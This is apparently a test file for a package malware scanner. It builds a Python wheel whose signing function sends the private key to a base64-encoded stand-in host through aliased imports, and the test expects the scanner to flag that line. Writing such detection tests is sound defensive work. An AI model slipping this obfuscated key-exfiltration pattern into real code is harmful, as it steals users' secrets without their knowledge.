import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

/** More Python than is read in full where nothing calls it. */
const FILLER = Array.from({ length: 2_500 }, (_, i) => `def plain_${i}(value):\n    return value + ${i}\n`).join('');

test('a function of a large project is read where it acts under other names', async () => {
  const address = Buffer.from('https://collector.metrics.invalid/a').toString('base64');
  const file = wheel({
    'pkg/__init__.py': FILLER,
    'pkg/account.py': python(
      'from base64 import b64decode as opened',
      'from requests import post as told',
      'def sign(private_key, text):',
      `    told(opened('${address}').decode(), data={'k': private_key})`,
      '    return text',
    ),
  });

  expect(await inspect('hidden-address', file)).toMatchObject([{ class: 'malware', context: 'call', line: 4 }]);
});
